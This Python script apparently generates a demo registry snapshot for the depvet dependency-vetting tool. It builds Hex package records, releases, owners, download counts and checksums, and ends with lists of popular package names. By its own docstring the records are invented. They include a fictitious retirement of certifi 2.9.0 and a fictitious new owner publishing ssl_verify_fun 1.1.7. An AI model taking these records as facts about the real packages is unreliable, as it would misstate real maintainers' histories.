#!/usr/bin/env python3
"""Writes the demo's recorded registry snapshot (examples/demo/snapshot/).

The records are demo data written for depvet's `make run`: shaped like the
real registries' answers, with release histories, owners and counts that
look like the real packages' as of the snapshot date, and a few invented
events (a retirement, a yank, an owner change, a typosquat) so that every
pane of the explorer has something to show.  Run it again after editing
the tables below; `make run` only reads its output and needs no Python.

Usage: python3 examples/demo/tools/gen_snapshot.py
"""
import base64
import hashlib
import json
import os
import re
import shutil
import urllib.parse
from datetime import date, datetime, timedelta, timezone

import demo_archives as arc

HERE = os.path.dirname(os.path.abspath(__file__))
DEMO = os.path.dirname(HERE)
OUT = os.path.join(DEMO, "snapshot")
SNAPSHOT_DATE = date(2024, 11, 15)

# ---- helpers ---------------------------------------------------------------


def write(rel, obj):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        if isinstance(obj, str):
            f.write(obj)
        else:
            json.dump(obj, f, indent=1, ensure_ascii=False)
            f.write("\n")


def write_bytes(rel, data):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def rewrite_lockfile(rel, swaps):
    """Replaces each old checksum by the archive's own in a lockfile."""
    path = os.path.join(DEMO, rel)
    with open(path, encoding="utf-8") as f:
        text = f.read()
    for old, new in swaps:
        if old != new and text.count(old) != 1:
            raise SystemExit("%s: checksum %s is not there once" % (rel, old))
        text = text.replace(old, new)
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)


def iso(d, hour=12, minute=0, micro=True):
    t = datetime(d.year, d.month, d.day, hour, minute, 7, 251000, tzinfo=timezone.utc)
    s = t.strftime("%Y-%m-%dT%H:%M:%S")
    return s + (".%06dZ" % t.microsecond if micro else "Z")


def day(s):
    return date.fromisoformat(s)


def fake_digest(*parts):
    """A stable stand-in digest: the demo's files do not exist anywhere."""
    return hashlib.sha256("/".join(parts).encode()).hexdigest()


def query_name(path, query):
    """The file a file:// URL with a query reads (see depvet(1))."""
    return path + "?" + query.replace("/", "%2F")


def releases(spec):
    """'1.0.0@2023-03-27 1.0.1@2023-04-12' -> [(version, date)], oldest first."""
    out = []
    for item in spec.split():
        v, d = item.split("@")
        out.append((v, day(d)))
    return out


# ---- lockfiles: pinned versions, requirements and checksums -----------------

MIX_RE = re.compile(r'^\s*"(\w+)": \{:hex, :\w+, "([^"]+)", "([0-9a-f]+)", \[([^\]]*)\], \[(.*)\], "hexpm", "([0-9a-f]+)"\}')
MIX_DEP_RE = re.compile(r'\{:(\w+), "([^"]+)", \[hex: :\w+, repo: "hexpm", optional: (true|false)\]\}')


def read_mix_lock():
    pins = {}
    with open(os.path.join(DEMO, "backend", "mix.lock"), encoding="utf-8") as f:
        for line in f:
            m = MIX_RE.match(line)
            if not m:
                continue
            name, version, inner, tools, deps, outer = m.groups()
            reqs = {d: {"app": d, "optional": opt == "true", "requirement": r}
                    for d, r, opt in MIX_DEP_RE.findall(deps)}
            pins[name] = {"version": version, "checksum": outer, "inner": inner, "requirements": reqs,
                          "build_tools": [t.strip().lstrip(":") for t in tools.split(",") if t.strip()]}
    return pins


GLEAM_RE = re.compile(r'\{ name = "(\w+)", version = "([^"]+)", build_tools = \[([^\]]*)\], requirements = \[([^\]]*)\].*outer_checksum = "([0-9A-F]+)" \}')


def read_gleam_manifest():
    pins = {}
    with open(os.path.join(DEMO, "frontend_gleam", "manifest.toml"), encoding="utf-8") as f:
        for line in f:
            m = GLEAM_RE.search(line)
            if not m:
                continue
            name, version, tools, reqs, outer = m.groups()
            names = re.findall(r'"(\w+)"', reqs)
            pins[name] = {"version": version, "checksum": outer.lower(),
                          "requirements": {n: {"app": n, "optional": False,
                                               "requirement": GLEAM_REQS.get((name, n), ">= 0.0.0")}
                                           for n in names},
                          "build_tools": re.findall(r'"(\w+)"', tools)}
    return pins


GLEAM_REQS = {
    ("gleam_http", "gleam_stdlib"): ">= 0.32.0 and < 2.0.0",
    ("gleam_json", "gleam_stdlib"): ">= 0.19.0 and < 2.0.0",
    ("gleam_json", "thoas"): ">= 0.4.0 and < 2.0.0",
    ("gleeunit", "gleam_stdlib"): ">= 0.33.0 and < 2.0.0",
}

# ---- Hex ----------------------------------------------------------------------

PEOPLE = {  # handle -> e-mail (placeholders: the demo publishes no real addresses)
    h: h + "@example.com" for h in (
        "ericmj", "whatyouhide", "benoitc", "josevalim", "fishcakez", "wojtekmach",
        "greg-rychlewski", "michalmuskala", "uwiger", "chrismccord", "mtrudel",
        "deadtrickster", "bryannaegele", "tsloughter", "arkgil", "lpil")
}
PEOPLE["k-orlov"] = "k.orlov.dev@mailbox.example"   # the owner added in 2023

GH = "https://github.com/"

# name: description, licences, repository, owners, releases, downloads
# (all, recent 90 days, week, day), direct dependents; optional: publishers
# per version (default: the first owner), retirements.
HEX = {
    "castore": ("Up-to-date CA certificate store.", ["Apache-2.0"], "elixir-mint/castore",
                ["ericmj", "whatyouhide"],
                "0.1.22@2022-11-14 1.0.0@2023-03-27 1.0.1@2023-04-03 1.0.2@2023-04-17 1.0.3@2023-05-02 "
                "1.0.4@2023-09-28 1.0.5@2023-12-18 1.0.6@2024-03-27 1.0.7@2024-04-23 1.0.8@2024-07-22 "
                "1.0.9@2024-09-30 1.0.10@2024-11-06",
                (58412093, 3951220, 312877, 47102), 96),
    "certifi": ("CA bundle adapted from Mozilla by https://certifi.io", ["BSD"], "certifi/erlang-certifi",
                ["benoitc"],
                "2.6.1@2021-03-09 2.7.0@2021-06-14 2.8.0@2021-10-27 2.9.0@2022-03-07 2.10.0@2022-10-31 "
                "2.11.0@2023-06-12 2.12.0@2023-08-02",
                (110238544, 2901733, 225409, 33187), 41,
                {"retired": {"2.9.0": ("other", "outdated CA bundle: roots Mozilla has since distrusted are "
                                                "still accepted; use 2.12.0 (needs hackney 1.20)")}}),
    "db_connection": ("Database connection behaviour for database transactions and connection pooling",
                      ["Apache-2.0"], "elixir-ecto/db_connection",
                      ["josevalim", "fishcakez", "wojtekmach"],
                      "2.4.3@2022-11-08 2.5.0@2023-04-05 2.6.0@2023-10-25 2.7.0@2024-07-02",
                      (74120988, 3100456, 240018, 36211), 134),
    "decimal": ("Arbitrary precision decimal arithmetic.", ["Apache-2.0"], "ericmj/decimal", ["ericmj"],
                "2.0.0@2020-09-08 2.1.0@2023-05-21 2.1.1@2023-05-24 2.2.0@2024-10-29",
                (112004871, 3804112, 300217, 44090), 212),
    "ecto": ("A toolkit for data mapping and language integrated query.", ["Apache-2.0"], "elixir-ecto/ecto",
             ["josevalim", "ericmj", "wojtekmach", "greg-rychlewski"],
             "3.10.3@2023-07-07 3.11.0@2023-11-14 3.11.1@2023-12-07 3.11.2@2024-03-07 3.12.0@2024-08-12 "
             "3.12.1@2024-08-13 3.12.2@2024-08-26 3.12.3@2024-09-06 3.12.4@2024-10-07",
             (96310422, 3601877, 282004, 41385), 388,
             {"publishers": {"3.11.1": "greg-rychlewski", "3.12.4": "greg-rychlewski"}}),
    "ecto_sql": ("SQL-based adapters for Ecto and database migrations", ["Apache-2.0"], "elixir-ecto/ecto_sql",
                 ["josevalim", "ericmj", "wojtekmach", "greg-rychlewski"],
                 "3.10.2@2023-08-25 3.11.0@2023-11-14 3.11.1@2023-12-07 3.11.2@2024-05-18 3.11.3@2024-06-14 "
                 "3.12.0@2024-08-12 3.12.1@2024-10-07",
                 (71044310, 2603345, 205118, 30072), 188),
    "hackney": ("simple HTTP client", ["Apache-2.0"], "benoitc/hackney", ["benoitc"],
                "1.17.4@2021-03-18 1.18.0@2021-09-28 1.18.1@2022-03-05 1.18.2@2023-08-21 1.19.1@2023-08-31 "
                "1.20.1@2023-10-13",
                (118377012, 3302441, 251876, 37019), 340),
    "idna": ("A pure Erlang IDNA implementation", ["MIT"], "benoitc/erlang-idna", ["benoitc"],
             "6.0.0@2018-08-24 6.0.1@2020-04-23 6.1.0@2020-12-17 6.1.1@2020-12-17",
             (117109345, 2812003, 214566, 31774), 12),
    "jason": ("A blazing fast JSON parser and generator in pure Elixir.", ["Apache-2.0"], "michalmuskala/jason",
              ["michalmuskala"],
              "1.2.2@2020-09-04 1.3.0@2021-12-20 1.4.0@2022-09-16 1.4.1@2023-07-17 1.4.2@2024-07-12 "
              "1.4.3@2024-07-12 1.4.4@2024-07-26",
              (160447901, 5611230, 430987, 64211), 398),
    "metrics": ("A generic interface to different metrics systems in Erlang.", ["BSD"], "benoitc/erlang-metrics",
                ["benoitc"], "1.0.0@2015-06-03 1.0.1@2015-08-10",
                (112345010, 2711872, 207339, 30854), 4),
    "mime": ("A MIME type module for Elixir", ["Apache-2.0"], "elixir-plug/mime", ["josevalim", "ericmj"],
             "2.0.3@2022-08-09 2.0.4@2023-07-05 2.0.5@2023-07-25 2.0.6@2024-06-25",
             (125003388, 4102874, 316009, 46731), 74),
    "mimerl": ("Library to handle mimetypes", ["MIT"], "benoitc/mimerl", ["benoitc"],
               "1.2.0@2019-03-08 1.3.0@2024-05-20",
               (113560212, 2798101, 213042, 31188), 6),
    "parse_trans": ("Parse transform library", ["Apache-2.0"], "uwiger/parse_trans", ["uwiger"],
                    "3.3.0@2018-05-25 3.3.1@2021-01-05 3.4.1@2021-06-07",
                    (108711004, 2400985, 184371, 26977), 14),
    "phoenix": ("Peace of mind from prototype to production", ["MIT"], "phoenixframework/phoenix",
                ["chrismccord", "josevalim"],
                "1.7.7@2023-07-10 1.7.9@2023-10-11 1.7.10@2023-11-03 1.7.11@2024-02-01 1.7.12@2024-04-03 "
                "1.7.13@2024-06-18 1.7.14@2024-06-18",
                (84207311, 3104766, 235118, 35022), 395),
    "phoenix_html": ("Phoenix view functions for working with HTML templates", ["MIT"],
                     "phoenixframework/phoenix_html", ["chrismccord", "josevalim"],
                     "3.3.1@2023-02-10 3.3.2@2023-08-10 3.3.3@2023-10-09 4.0.0@2023-12-19 4.1.0@2024-03-08 "
                     "4.1.1@2024-03-15",
                     (79102733, 2904417, 221846, 32690), 260),
    "phoenix_pubsub": ("Distributed PubSub and Presence platform", ["MIT"], "phoenixframework/phoenix_pubsub",
                       ["chrismccord", "josevalim"], "2.1.1@2022-03-23 2.1.2@2023-04-23 2.1.3@2023-06-05",
                       (80390225, 2950314, 226101, 33214), 96),
    "phoenix_template": ("Template rendering for Phoenix", ["MIT"], "phoenixframework/phoenix_template",
                         ["chrismccord", "josevalim"],
                         "1.0.0@2022-10-25 1.0.1@2023-02-03 1.0.2@2023-07-11 1.0.3@2023-07-13 1.0.4@2023-12-08",
                         (31880412, 2804009, 214477, 31902), 22),
    "plug": ("Compose web applications with functions", ["Apache-2.0"], "elixir-plug/plug",
             ["josevalim", "ericmj", "wojtekmach"],
             "1.14.2@2023-03-23 1.15.0@2023-10-04 1.15.1@2023-10-06 1.15.2@2023-11-14 1.15.3@2024-01-16 "
             "1.16.0@2024-05-18 1.16.1@2024-06-21",
             (129450317, 4302115, 330178, 49012), 392),
    "plug_crypto": ("Crypto-related functionality for the web", ["Apache-2.0"], "elixir-plug/plug_crypto",
                    ["josevalim", "ericmj"], "1.2.5@2023-02-23 2.0.0@2023-10-05 2.1.0@2024-05-17",
                    (105113408, 3901244, 298311, 44075), 38),
    "postgrex": ("PostgreSQL driver for Elixir", ["Apache-2.0"], "elixir-ecto/postgrex",
                 ["josevalim", "ericmj", "fishcakez", "wojtekmach"],
                 "0.17.3@2023-09-06 0.17.4@2023-12-04 0.17.5@2024-03-04 0.18.0@2024-06-13 0.19.0@2024-07-29 "
                 "0.19.1@2024-08-20 0.19.2@2024-10-21 0.19.3@2024-11-12",
                 (63771209, 2504830, 193662, 28640), 250),
    "ssl_verify_fun": ("SSL verification functions for Erlang", ["MIT"], "deadtrickster/ssl_verify_fun.erl",
                       ["deadtrickster", "k-orlov"],
                       "1.1.4@2018-08-05 1.1.5@2019-11-25 1.1.6@2020-04-22 1.1.7@2023-04-03",
                       (109004122, 2788017, 211350, 30998), 9,
                       {"publishers": {"1.1.7": "k-orlov"}}),
    "telemetry": ("Dynamic dispatching library for metrics and instrumentations", ["Apache-2.0"],
                  "beam-telemetry/telemetry", ["bryannaegele", "josevalim", "arkgil", "tsloughter"],
                  "1.1.0@2022-03-08 1.2.0@2023-01-10 1.2.1@2023-01-25 1.3.0@2024-08-30",
                  (138602254, 5402981, 420376, 62093), 397),
    "unicode_util_compat": ("unicode_util compatibility library for Erlang < 20", ["Apache-2.0"],
                            "benoitc/unicode_util_compat", ["benoitc"],
                            "0.4.1@2018-08-24 0.5.0@2020-05-13 0.7.0@2020-10-16",
                            (109833470, 2701556, 206871, 30112), 5),
    "websock": ("A specification for WebSocket connections", ["MIT"], "phoenixframework/websock", ["mtrudel"],
                "0.4.3@2022-11-03 0.5.0@2023-01-12 0.5.1@2023-04-20 0.5.2@2023-05-15 0.5.3@2023-07-12",
                (21904733, 2611290, 200347, 29551), 8),
    "websock_adapter": ("A set of WebSock adapters for common web servers", ["MIT"],
                        "phoenixframework/websock_adapter", ["mtrudel"],
                        "0.5.1@2023-03-14 0.5.3@2023-06-08 0.5.4@2023-08-19 0.5.5@2023-10-05 0.5.6@2024-04-01 "
                        "0.5.7@2024-08-01 0.5.8@2024-10-23",
                        (20877120, 2600414, 199522, 29306), 12),
    "gleam_http": ("Types and functions for HTTP clients and servers!", ["Apache-2.0"], "gleam-lang/http",
                   ["lpil"], "3.5.1@2023-11-03 3.5.2@2023-12-29 3.6.0@2024-01-16 3.7.0@2024-09-04",
                   (522671, 48210, 3712, 521), 93),
    "gleam_json": ("Work with JSON in Gleam", ["Apache-2.0"], "gleam-lang/json", ["lpil"],
                   "0.7.0@2023-11-14 1.0.0@2024-01-16 1.0.1@2024-04-09 2.0.0@2024-09-05",
                   (388102, 36051, 2781, 402), 118),
    "gleam_stdlib": ("A standard library for the Gleam programming language", ["Apache-2.0"],
                     "gleam-lang/stdlib", ["lpil"],
                     "0.33.0@2023-12-01 0.34.0@2024-01-16 0.35.0@2024-03-01 0.36.0@2024-04-02 0.37.0@2024-04-29 "
                     "0.38.0@2024-05-24 0.39.0@2024-07-09 0.40.0@2024-08-19 0.41.0@2024-10-31",
                     (1402918, 120466, 9340, 1310), 391),
    "gleeunit": ("Gleam bindings to Erlang's EUnit test framework", ["Apache-2.0"], "lpil/gleeunit", ["lpil"],
                 "0.11.0@2023-06-21 1.0.0@2023-12-11 1.0.1@2023-12-21 1.0.2@2024-01-16 1.1.0@2024-04-12 "
                 "1.2.0@2024-06-20",
                 (611044, 51223, 3900, 566), 310),
    "thoas": ("A blazing fast JSON parser and generator in pure Erlang.", ["Apache-2.0"], "lpil/thoas", ["lpil"],
              "0.4.0@2022-06-10 0.4.1@2023-03-01 1.0.0@2023-04-12 1.2.0@2023-10-25 1.2.1@2024-02-13",
              (402330, 33018, 2510, 377), 6),
}

# ssl_verify_fun's owners as refreshes before the snapshot saw them: a
# second owner appears twelve days before the pinned 1.1.7, which that new
# owner publishes (the explorer's owner history and first-time publisher).
OWNER_HISTORY = ("ssl_verify_fun", "1.1.6", [("2023-01-10", ["deadtrickster"]),
                                             ("2023-03-22", ["deadtrickster", "k-orlov"])])

# Names for the dependents search pages (the count is what matters).
DEP_WORDS_A = ["acme", "atlas", "beacon", "cargo", "cinder", "delta", "ember", "fable", "glimmer", "harbor",
               "ion", "juniper", "kestrel", "lumen", "mosaic", "nimbus", "orbit", "prism", "quill", "relay"]
DEP_WORDS_B = ["api", "auth", "bridge", "cache", "client", "core", "db", "events", "gateway", "jobs",
               "kit", "ledger", "live", "mailer", "metrics", "pool", "queue", "router", "store", "web"]


def dependents_names(name, count):
    seed = int(hashlib.sha256(name.encode()).hexdigest(), 16)
    out, i = [], 0
    while len(out) < count:
        a = DEP_WORDS_A[(seed + i * 7) % len(DEP_WORDS_A)]
        b = DEP_WORDS_B[(seed // 3 + i * 11) % len(DEP_WORDS_B)]
        n = "%s_%s" % (a, b) if i < 400 else "%s_%s_%d" % (a, b, i // 400)
        if n not in out:
            out.append(n)
        i += 1
    return sorted(out)


def hex_user(h, full=False):
    u = {"username": h, "email": PEOPLE[h], "url": "https://hex.pm/api/users/" + h}
    if full:
        u.update({"level": "full", "inserted_at": iso(day("2016-01-01"))})
    return u


def hex_latest(name):
    """The newest release neither a pre-release nor retired (depvet's latest)."""
    retired = (HEX[name][7] if len(HEX[name]) > 7 else {}).get("retired", {})
    rels = [v for v, d in releases(HEX[name][4]) if d <= SNAPSHOT_DATE]
    return [v for v in rels if "-" not in v and v not in retired][-1]


def hex_archives(pins):
    """Writes the shipped tarballs; makes mix.lock and manifest.toml carry
    the pins' checksums.  {(name, version): outer checksum}."""
    outer_of, mix_swaps, gleam_swaps = {}, [], []
    for name, spec in HEX.items():
        order = [v for v, d in releases(spec[4]) if d <= SNAPSHOT_DATE]
        pin = pins[name]
        for v in arc.shipped_versions(order, pin["version"], hex_latest(name)):
            tar, inner, outer = arc.hex_archive(name, v, order, spec[0], spec[1], pin)
            write_bytes("hex/repo/tarballs/%s-%s.tar" % (name, v), tar)
            outer_of[(name, v)] = outer
            if v != pin["version"]:
                continue
            if "inner" in pin:
                mix_swaps += [(pin["inner"], inner), (pin["checksum"], outer)]
            else:
                gleam_swaps.append((pin["checksum"].upper(), outer.upper()))
            pin["checksum"] = outer
    rewrite_lockfile("backend/mix.lock", mix_swaps)
    rewrite_lockfile("frontend_gleam/manifest.toml", gleam_swaps)
    return outer_of


def hex_files(api, pins, outer_of):
    for name, spec in HEX.items():
        desc, lic, repo, owners, rels, dl, deps = spec[:7]
        extra = spec[7] if len(spec) > 7 else {}
        rels = [r for r in releases(rels) if r[1] <= SNAPSHOT_DATE]
        pin = pins[name]
        if pin["version"] not in [v for v, _ in rels]:
            raise SystemExit("%s: pinned %s missing from the history" % (name, pin["version"]))
        retired = extra.get("retired", {})
        newest = rels[-1][0]
        stable = [v for v, _ in rels if "-" not in v and v not in retired][-1]
        pkg = {
            "name": name,
            "html_url": "https://hex.pm/packages/" + name,
            "docs_html_url": "https://hexdocs.pm/%s/" % name,
            "url": "https://hex.pm/api/packages/" + name,
            "repository": "hexpm",
            "meta": {"description": desc, "licenses": lic, "links": {"GitHub": GH + repo},
                     "maintainers": []},
            "downloads": {"all": dl[0], "recent": dl[1], "week": dl[2], "day": dl[3]},
            "inserted_at": iso(rels[0][1] - timedelta(days=3)),
            "updated_at": iso(rels[-1][1], 13),
            "latest_version": newest,
            "latest_stable_version": stable,
            "owners": [hex_user(h) for h in owners],
            "releases": [{"version": v, "url": "https://hex.pm/api/packages/%s/releases/%s" % (name, v),
                          "has_docs": True, "inserted_at": iso(d)} for v, d in reversed(rels)],
            "retirements": {v: {"reason": r, "message": m} for v, (r, m) in retired.items()},
            "configs": {"mix.exs": '{:%s, "~> %s"}' % (name, stable)},
        }
        write("%s/packages/%s/index.json" % (api, name), pkg)
        write("%s/packages/%s/owners" % (api, name), [hex_user(h, True) for h in owners])
        # Every release's record (requirements, publisher, build tools): the
        # metadata diff compares any two, and `depvet adopt` resolves them.
        for v, published in rels:
            outer = outer_of.get((name, v), fake_digest("hex-outer", name, v))
            write("%s/packages/%s/releases/%s" % (api, name, v),
                  hex_release(name, v, published, dict(pin, checksum=outer), extra, owners, retired))
        search_pages(api, name, deps)


def hex_release(name, v, published, pin, extra, owners, retired):
    publisher = extra.get("publishers", {}).get(v, owners[0])
    rel = {
        "version": v,
        "checksum": pin["checksum"],
        "downloads": 250000 + (int(hashlib.sha256((name + v).encode()).hexdigest(), 16) % 4000000),
        "has_docs": True,
        "html_url": "https://hex.pm/packages/%s/%s" % (name, v),
        "docs_html_url": "https://hexdocs.pm/%s/%s/" % (name, v),
        "inserted_at": iso(published),
        "updated_at": iso(published),
        "meta": {"app": name, "build_tools": pin["build_tools"], "elixir": "~> 1.11"
                 if "mix" in pin["build_tools"] else None},
        "package_url": "https://hex.pm/api/packages/" + name,
        "publisher": hex_user(publisher),
        "requirements": pin["requirements"],
        "retirement": None,
        "url": "https://hex.pm/api/packages/%s/releases/%s" % (name, v),
    }
    if v in retired:
        rel["retirement"] = {"reason": retired[v][0], "message": retired[v][1]}
    return rel


def search_pages(api, name, count):
    names = dependents_names(name, count)
    q = "search=%s&sort=name&page=" % urllib.parse.quote("depends:hexpm:" + name, safe="")
    page = 1
    while True:
        chunk = names[(page - 1) * 100: page * 100]
        write(query_name("%s/packages" % api, q + str(page)),
              [{"name": n, "html_url": "https://hex.pm/packages/" + n} for n in chunk])
        if len(chunk) < 100:
            break
        page += 1


def hex_history(pins, outer_of):
    name, version, steps = OWNER_HISTORY
    desc, lic, repo, owners, rels, dl, deps = HEX[name][:7]
    for when, who in steps:
        api = "history/%s/hex/api" % when
        rels_then = [r for r in releases(rels) if r[1] <= day(when)]
        pkg = {"name": name, "meta": {"description": desc, "licenses": lic, "links": {"GitHub": GH + repo}},
               "downloads": {"all": dl[0] * 9 // 10, "recent": dl[1], "week": dl[2], "day": dl[3]},
               "inserted_at": iso(rels_then[0][1] - timedelta(days=3)), "updated_at": iso(day(when)),
               "latest_version": rels_then[-1][0], "latest_stable_version": rels_then[-1][0],
               "owners": [hex_user(h) for h in who], "retirements": {},
               "releases": [{"version": v, "inserted_at": iso(d)} for v, d in reversed(rels_then)]}
        write("%s/packages/%s/index.json" % (api, name), pkg)
        write("%s/packages/%s/owners" % (api, name), [hex_user(h, True) for h in who])
        pin = dict(pins[name], checksum=outer_of[(name, version)])
        write("%s/packages/%s/releases/%s" % (api, name, version),
              hex_release(name, version, dict(rels_then)[version], pin, {}, who, {}))
        search_pages(api, name, deps)
        # What tools/build-cache.sh asks with `depvet info` as of that date.
        write("history/%s/INFO" % when, "hex:%s@%s\n" % (name, version))

HEX_POPULAR = """jason telemetry plug mime plug_crypto decimal certifi hackney ssl_verify_fun idna metrics mimerl
parse_trans unicode_util_compat castore db_connection ecto nimble_options cowlib ranch cowboy telemetry_poller
telemetry_metrics ecto_sql postgrex phoenix_pubsub phoenix phoenix_html phoenix_template plug_cowboy
cowboy_telemetry nimble_pool finch mint hpax gettext expo earmark_parser ex_doc makeup makeup_elixir
makeup_erlang nimble_parsec file_system phoenix_live_view phoenix_ecto phoenix_view phoenix_live_dashboard
websock websock_adapter bandit thousand_island tesla httpoison poison credo bunt dialyxir erlex excoveralls
swoosh floki esbuild tailwind heroicons dns_cluster oban absinthe absinthe_plug ex_aws sweet_xml timex
tzdata combine mox ex_machina faker req jose joken bcrypt_elixir comeonin elixir_make cc_precompiler
rustler_precompiled gen_stage broadway cachex redix csv yamerl uuid elixir_uuid table_rex sentry libcluster
phoenix_live_reload protobuf gleam_stdlib
ex_aws_s3 hackney_telemetry goth google_protos grpc gun cowboy_swagger nimble_csv nimble_totp
nimble_publisher nimble_strftime ecto_enum ecto_psql_extras ecto_network myxql tds exqlite
ecto_sqlite3 postgrex_extensions geo geo_postgis jsx jiffy exjsonpath json_xema ex_json_schema
bypass hammox mock meck mimic excoveralls_lcov stream_data propcheck proper
benchee benchee_html junit_formatter ex_unit_notifier mix_test_watch sobelow mix_audit doctor
ex_check recode styler quokka credo_naming  gradient typed_struct typed_ecto_schema
norm vex ex_json_logger logger_json logger_file_backend logster telemetry_registry opentelemetry
opentelemetry_api opentelemetry_exporter opentelemetry_phoenix opentelemetry_ecto opentelemetry_cowboy
opentelemetry_telemetry opentelemetry_semantic_conventions prom_ex prometheus prometheus_ex
prometheus_plugs prometheus_phoenix prometheus_ecto telemetry_metrics_prometheus
telemetry_metrics_prometheus_core statix appsignal appsignal_phoenix new_relic_agent spandex
honeybadger rollbax bugsnag tower timber ex_rated hammer hammer_plug plug_attack remote_ip
cors_plug corsica plug_canonical_host plug_ssl plug_content_security_policy guardian guardian_db
pow pow_assent assent ueberauth ueberauth_google ueberauth_github ueberauth_identity oauth2
argon2_elixir pbkdf2_elixir bcrypt x509 jose_jwk ex_crypto cloak cloak_ecto
plug_session_redis nebulex nebulex_redis_adapter con_cache mentat cachex_memoize redix_pubsub
phoenix_pubsub_redis castle horde swarm delta_crdt libring highlander quantum crontab
oban_web oban_pro exq verk honeydew rihanna que flow gen_retry retry backoff fuse
external_service broadway_sqs broadway_kafka broadway_rabbitmq kafka_ex brod kaffe amqp
lapin gnat tortoise emqtt grpc_reflection ex_aws_sqs ex_aws_sns ex_aws_dynamo ex_aws_ses
ex_aws_sts ex_aws_secretsmanager aws aws_signature httpotion mojito machine_gun
tesla_middleware_oauth2 ssl_verify_hostname hpack chatterbox h2 mint_web_socket
websockex fresh phoenix_gen_socket_client slipstream absinthe_phoenix absinthe_relay dataloader
absinthe_error_payload crudry kronky scrivener scrivener_ecto paginator quarto flop flop_phoenix
ex_money ex_cldr ex_cldr_numbers ex_cldr_dates_times ex_cldr_currencies ex_cldr_calendars
money decimal_arithmetic number ex_phone_number libphonenumber email_checker burnex
bamboo bamboo_smtp bamboo_phoenix mailgun gen_smtp mail swoosh_postmark premailex html_sanitize_ex
phoenix_html_helpers phoenix_html_sanitizer slugify slugger inflex recase ecto_autoslug_field
arc arc_ecto waffle waffle_ecto mogrify image vix evision nx axon exla explorer scholar
kino kino_vega_lite vega_lite livebook bumblebee tokenizers rustler elixir_make_precompiled
zigler earmark md makeup_js makeup_html makeup_eex makeup_diff 
yaml_elixir toml tomlex ex_toml csv_schema nimble_ownership 
ecto_dev_logger ecto_soft_delete ex_audit paper_trail ecto_commons polymorphic_embed
ecto_ulid ecto_uuid uniq ulid hashids sqids nanoid puid snowflake
tz timex_ecto calendar calendar_recurrence cron date_time_parser human_time
jason_structs exconstructor construct ecto_morph params maru grape plug_rest trot raxx ace
ranch_proxy_protocol elli mochiweb yaws erlydtl lager goldrush""".split()
HEX_POPULAR = list(dict.fromkeys(HEX_POPULAR))

PYPI_POPULAR = """boto3 urllib3 botocore requests setuptools certifi charset-normalizer idna typing-extensions
python-dateutil s3transfer packaging aiobotocore six numpy s3fs fsspec pyyaml pip cryptography
grpcio-status google-api-core pydantic cffi attrs pycparser pandas importlib-metadata jmespath protobuf
wheel rsa zipp pyasn1 click platformdirs pydantic-core jinja2 markupsafe filelock colorama pytz tomli
awscli virtualenv cachetools pluggy pytest google-auth pyjwt wrapt annotated-types jsonschema sqlalchemy
pyasn1-modules iniconfig googleapis-common-protos requests-oauthlib psutil aiohttp tzdata oauthlib
docutils yarl multidict pyarrow frozenlist grpcio exceptiongroup aiosignal pygments soupsieve greenlet
beautifulsoup4 scipy openpyxl tqdm isodate decorator async-timeout werkzeug pillow lxml more-itertools
distlib requests-toolbelt httpx httpcore h11 anyio sniffio proto-plus tomlkit deprecated pyparsing flask
coverage mypy-extensions sortedcontainers et-xmlfile chardet pynacl paramiko bcrypt regex matplotlib
scikit-learn cloudpickle
google-cloud-storage google-cloud-core google-resumable-media google-crc32c google-cloud-bigquery
google-cloud-pubsub google-cloud-secret-manager google-cloud-logging google-cloud-aiplatform
azure-core azure-storage-blob azure-identity azure-common msal msal-extensions msrest adal
portalocker isort black flake8 pycodestyle pyflakes mccabe pylint astroid tomli-w mypy
typing-inspect marshmallow marshmallow-enum dataclasses-json pydantic-settings python-dotenv
fastapi starlette uvicorn gunicorn uvloop httptools watchfiles websockets python-multipart
email-validator dnspython itsdangerous blinker flask-cors flask-sqlalchemy flask-login
flask-wtf wtforms django djangorestframework django-cors-headers django-filter celery kombu
billiard vine amqp redis hiredis pymongo motor psycopg2 psycopg2-binary psycopg asyncpg
pymysql mysqlclient mysql-connector-python alembic mako sqlparse peewee elasticsearch
opensearch-py pika confluent-kafka kafka-python grpcio-tools googleapis-common-protos
opentelemetry-api opentelemetry-sdk opentelemetry-proto opentelemetry-exporter-otlp
prometheus-client sentry-sdk structlog loguru rich typer click-plugins tabulate termcolor
prompt-toolkit wcwidth pexpect ptyprocess ipython ipykernel jupyter-core jupyter-client
jupyterlab notebook nbformat nbconvert nbclient traitlets tornado pyzmq debugpy matplotlib-inline
jedi parso asttokens executing stack-data pure-eval comm nest-asyncio ipywidgets widgetsnbextension
seaborn plotly bokeh altair kiwisolver cycler fonttools contourpy pyparsing imageio
scikit-image opencv-python opencv-python-headless tifffile networkx sympy mpmath statsmodels
patsy xgboost lightgbm catboost torch torchvision torchaudio tensorflow keras tensorboard
tensorflow-estimator absl-py gast astunparse flatbuffers h5py opt-einsum termcolor ml-dtypes
jax jaxlib transformers tokenizers huggingface-hub safetensors datasets accelerate sentencepiece
nltk spacy thinc gensim langchain langchain-core langsmith openai anthropic tiktoken
pytest-cov pytest-mock pytest-xdist pytest-asyncio pytest-timeout pytest-runner tox nox
hypothesis faker freezegun responses requests-mock moto mock coverage execnet
sphinx sphinx-rtd-theme alabaster babel imagesize snowballstemmer markdown mistune
pyopenssl certifi-win32 service-identity twisted zope-interface automat constantly
hyperlink incremental boto s3cmd awswrangler redshift-connector snowflake-connector-python
databricks-sql-connector pyspark py4j dask distributed partd locket toolz cytoolz
numba llvmlite pyodbc sqlalchemy-utils xlrd xlwt xlsxwriter python-docx pypdf
pypdf2 reportlab pdfminer-six chardet cchardet ujson orjson simplejson msgpack cbor2
pyrsistent isodate rfc3339-validator jsonpointer jsonpatch jsonpath-ng python-json-logger
setuptools-scm hatchling flit-core poetry-core pdm-backend build twine pkginfo readme-renderer
keyring jaraco-classes secretstorage jeepney cachecontrol lockfile html5lib webencodings
bleach tinycss2 defusedxml xmltodict lxml-stubs types-requests types-pyyaml types-setuptools
boto3-stubs botocore-stubs mypy-boto3-s3 paramiko scp fabric invoke sshtunnel pysftp
selenium webdriver-manager playwright pyee trio outcome trio-websocket wsproto h2 hpack
hyperframe brotli zstandard lz4 python-snappy pyzstd gevent eventlet greenlet zope-event
apache-airflow apache-beam great-expectations dbt-core mlflow wandb optuna ray""".split()
